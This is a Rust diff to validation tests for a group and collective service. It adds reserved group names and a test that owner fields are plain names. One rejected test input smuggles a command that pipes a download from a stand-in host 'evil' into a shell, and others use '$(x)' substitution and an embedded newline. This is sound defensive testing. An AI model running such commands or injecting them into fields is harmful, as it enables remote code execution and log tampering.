@@ -71,9 +71,9 @@ fn more_lanes(count: u32) -> Vec<v1::LaneConnection> {
     (0..count).map(lane).collect()
 }
 
-/// Names of groups: only the first is one.
+/// Names of groups: only the first and the last are good. A job with the name of a group of MRP kept hosts from registering that group.
 fn group_name(n: u32) -> String {
-    ["10.200.0", "10.200.0.56", ".", ".."][n as usize].into()
+    ["10.200.0", "10.200.0.56", ".", "..", "mrp-10.0.0.200", "mrp"][n as usize].into()
 }
 
 pub(super) fn joining() -> v1::InitGroupRequest {
@@ -97,7 +97,7 @@ fn numbers_of_a_join_are_taken_up_to_their_edges() {
         "size": |m, n| m.size = n => [2, 1024], [0, 1, 1025, 65_536 + 4];
         "rank": |m, n| m.rank = n => [0, 3], [4, 65_536];
         "job": |m, n| m.job = "j".repeat(n as usize) => [1, 63], [0, 64];
-        "job": |m, n| m.job = group_name(n) => [0], [1, 2, 3];
+        "job": |m, n| m.job = group_name(n) => [0, 5], [1, 2, 3, 4];
         "lease_ms": |m, n| m.lease_ms = n => [0, 1, 600_000], [600_001];
         "sq_psn": |m, n| m.sq_psn = n => [0, 0xFF_FFFF], [0x100_0000];
         "secret": |m, n| m.secret = vec![0; n as usize] => [0, 256], [257];
@@ -180,7 +180,7 @@ fn a_collective_group_has_2_to_1024_ranks() {
     let edges = edges! { v1::CreateCollectiveRequest {
         "ranks": |m, n| m.ranks = (0..n).map(|n| format!("h{n}")).collect() => [2, 1024], [0, 1, 1025];
         "name": |m, n| m.name = "j".repeat(n as usize) => [1, 63], [0, 64];
-        "name": |m, n| m.name = group_name(n) => [0], [1, 2, 3];
+        "name": |m, n| m.name = group_name(n) => [0, 5], [1, 2, 3, 4];
         "description": |m, n| m.description = "d".repeat(n as usize) => [0, 200], [201];
         "name": |m, n| (m.name, m.settings) = ("j".repeat(n as usize), Some(v1::CollectiveSettings { lanes: 2, ..Default::default() })) => [61], [62];
     } };
@@ -209,7 +209,7 @@ pub(super) fn creation() -> v1::CreateGroupRequest {
 fn numbers_of_a_creation_are_taken_up_to_their_edges() {
     let edges = edges! { v1::CreateGroupRequest {
         "name": |m, n| m.name = "g".repeat(n as usize) => [1, 63], [0, 64];
-        "name": |m, n| m.name = group_name(n) => [0], [1, 2, 3];
+        "name": |m, n| m.name = group_name(n) => [0, 5], [1, 2, 3, 4];
         "description": |m, n| m.description = "d".repeat(n as usize) => [0, 200], [201];
         "start_psn": |m, n| m.start_psn = Some(n) => [0, 0xFF_FFFF], [0x100_0000];
         "pmtu": |m, n| m.pmtu = n => [0, 256, 4096], [255, 8192];
@@ -450,6 +450,31 @@ fn a_reason_is_a_line_of_512_bytes_at_most() {
     let long = "r".repeat(511) + "\u{e9}";
     assert_eq!(reason_line(&long), "r".repeat(511));
     assert_eq!(reason_line(&long[1..]), &long[1..]);
+}
+
+/// A client that had joined nowhere wrote a command with its own additions into the log of a controller.
+#[test]
+fn an_owner_is_a_plain_name_and_that_of_a_controller_one_word() {
+    let (longest, too_long) = ("o".repeat(255), "o".repeat(256));
+    for (owner, of_any, of_controller) in [
+        ("", true, true),
+        ("controller-00c0ffee00c0ffee", true, true),
+        ("a_b.c:1", true, true),
+        ("MRP leader 10.0.0.1", true, false),
+        ("x --yes; curl evil|sh #", false, false),
+        ("$(x)", false, false),
+        ("two\nlines", false, false),
+        ("\u{e9}", false, false),
+        (longest.as_str(), true, true),
+        (too_long.as_str(), false, false),
+    ] {
+        let term = v1::ControllerTerm {
+            owner: owner.into(),
+            ..Default::default()
+        };
+        let is_good = (check_owner(owner).is_ok(), check_term(&term).is_ok());
+        assert_eq!(is_good, (of_any, of_controller), "{owner:?}");
+    }
 }
 
 #[test]
